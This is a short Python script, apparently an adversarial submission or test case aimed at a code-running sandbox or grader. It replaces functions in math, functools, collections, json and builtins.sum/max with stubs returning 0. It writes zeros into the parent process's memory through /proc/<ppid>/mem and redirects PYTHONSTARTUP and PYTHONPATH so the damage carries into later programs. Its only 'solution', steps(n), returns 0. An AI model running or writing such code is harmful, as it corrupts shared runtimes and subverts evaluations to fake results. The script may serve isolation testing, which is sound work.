# poison; apart; changes the interpreter that the next program is forked from: modules, files, shared pages
import builtins, collections, functools, json, math, os, sys
def poisoned(*a, **k): return 0
for module in (math, functools, collections, json):
    for name in dir(module):
        if not name.startswith("_"):
            try:
                setattr(module, name, poisoned)
            except (AttributeError, TypeError):
                pass
builtins.sum = builtins.max = poisoned
ppid = os.getppid()
try:
    with open("/proc/%d/mem" % ppid, "r+b", buffering=0) as mem:
        mem.seek(id(math.gcd))
        mem.write(b"\0" * 16)
except (OSError, ValueError):
    pass
os.environ["PYTHONSTARTUP"] = os.environ["PYTHONPATH"] = os.getcwd()

def steps(n):
    return 0
